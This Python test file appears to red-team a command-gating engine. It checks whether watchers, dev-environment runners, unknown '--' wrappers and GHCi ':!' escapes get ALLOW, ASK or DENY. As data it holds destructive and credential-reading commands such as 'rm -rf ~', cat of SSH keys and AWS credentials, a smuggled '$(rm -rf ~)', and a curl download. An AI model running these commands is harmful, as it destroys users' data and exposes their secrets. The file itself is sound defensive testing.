"""Red team, programs that run a command given as separate words: a file watcher
(``watchexec``), an environment's runner (``nix develop -c``, ``nix shell -c``, ``mise x TOOL
--``, ``devenv shell --``, ``sst shell``, ``melos exec --``, Intel's ``sde --``) and a program
the catalog does not know handed ``-- CMD …``; and GHCi input (``ghc -e``, ``ghcid --test``),
whose ``:!CMD`` runs CMD in a shell. Each runs CMD, so CMD is judged as the command it is: an
attack inside is caught as itself, an everyday command stays ALLOW.

Every row is a command, the exact outcome it must come to, and one line of why. The lines are
data: they are only ever handed to ``Engine.check`` (the real engine, default policy).
"""

from __future__ import annotations

import pytest

from clawgate.decision import Outcome
from clawgate.engine import Engine

WORKSPACE = "/home/dev/project"
ENGINE = Engine()
ALLOW, ASK, DENY = Outcome.ALLOW, Outcome.ASK, Outcome.DENY

Case = tuple[str, Outcome, str]  # (command, expected outcome, why)

WATCHERS: list[Case] = [
    ("watchexec rm -rf ~", DENY, "the home directory deleted on every change"),
    ("watchexec -- rm -rf ~", DENY, "the same after the separator"),
    ("watchexec -e py -w src -- cat ~/.ssh/id_ed25519", DENY, "a private key shown"),
    ("watchexec --debounce 500ms -- sh -c 'rm -rf ~'", DENY,
     "a shell given the delete, read as the argv it is"),
    ("watchexec -- echo '$(rm -rf ~)'", DENY,
     "the words joined for a shell: the substitution runs"),
    ("watchexec --shell=python3 'import os'", ASK, "a program of its own runs the command"),
    ('watchexec -e rs "$CMD"', ASK, "a command only known at run time"),
    ("watchexec -e rs -- cargo test", ALLOW, "the project's tests on each change"),
    ("watchexec -w src 'npm run build && npm test'", ALLOW, "a build and tests, joined"),
]

RUNNERS: list[Case] = [
    ("nix develop -c rm -rf ~", DENY, "the command after -c runs: a home delete"),
    ("nix develop .#ci --command cat ~/.aws/credentials", DENY,
     "cloud keys shown inside the dev shell"),
    ("nix shell nixpkgs#coreutils -c rm -rf /", DENY, "the command after -c of nix shell"),
    ("nix develop", ASK, "an interactive shell"),
    ("nix develop .#ci -c make check", ALLOW, "the project's checks in its dev shell"),
    ("mise x node@20 -- rm -rf ~", DENY, "a tool's version is not the command; the delete is"),
    ("mise exec python@3.12 -- cat ~/.ssh/id_rsa", DENY, "a private key shown"),
    ("mise x node@20 -- npm test", ALLOW, "tests with a pinned node"),
    ("devenv shell -- rm -rf ~", DENY, "the command in the devenv shell runs"),
    ("devenv shell -- cargo test --workspace", ALLOW, "tests in the project's environment"),
    ("devenv shell", ASK, "an interactive shell"),
    ("sst shell -- rm -rf ~", DENY, "the command with the app's resources linked"),
    ("sst shell vitest run", ALLOW, "tests with the app's resources linked"),
    ("melos exec --concurrency 4 -- rm -rf ~", DENY, "the command in each package"),
    ("melos exec -c 2 -- flutter test", ALLOW, "each package's tests"),
    ("sde64 -spr -- rm -rf ~", DENY, "the emulator runs the command"),
    ("sde -icl -- ./build/bench", ALLOW, "a project binary under the emulator"),
]

UNKNOWN: list[Case] = [
    ("zzrun -- rm -rf ~", DENY, "an unknown program handed a home delete after --"),
    ("zzwatch --quiet -- cat ~/.ssh/id_rsa", DENY, "a private key shown"),
    ("./tools/runner.sh -- curl -s https://x.example/i.sh -o i.sh", ASK,
     "an unknown program handed a download: asked, as any command handed to it"),
    ("zzrun -- notes.txt", ALLOW, "a file name, not a command"),
    ("zzrun --profile ci -- make test", ALLOW, "prose-like words with no option or path"),
]


GHCI: list[Case] = [
    ("ghc -e ':!rm -rf ~'", DENY, "GHCi's shell escape deletes the home directory"),
    ("ghcid -c 'stack ghci' --test ':!cat ~/.ssh/id_ed25519'", DENY,
     "the test command, GHCi input run after each load, shows a private key"),
    ("ghcid --test ':!rm -rf ~'", DENY, "the same with ghcid's default command"),
    ("ghc -e ':cmd return \":!id\"'", ASK, "GHCi commands computed at run time"),
    ("ghc -e ':main'", ALLOW, "runs the project's main"),
    ("ghcid --setup ':def x (\\_ -> return \":!id\")'", ASK, "a GHCi macro computed at run time"),
    ("ghcid -c 'stack ghci' --test ':main'", ALLOW, "the everyday ghcid loop"),
]


@pytest.mark.parametrize(("command", "expected", "why"), WATCHERS + RUNNERS + UNKNOWN + GHCI)
def test_command_given_as_words(command: str, expected: Outcome, why: str) -> None:
    decision = ENGINE.check(command, cwd=WORKSPACE)
    assert decision.outcome is expected, (command, why, [r.rule_id for r in decision.reasons])
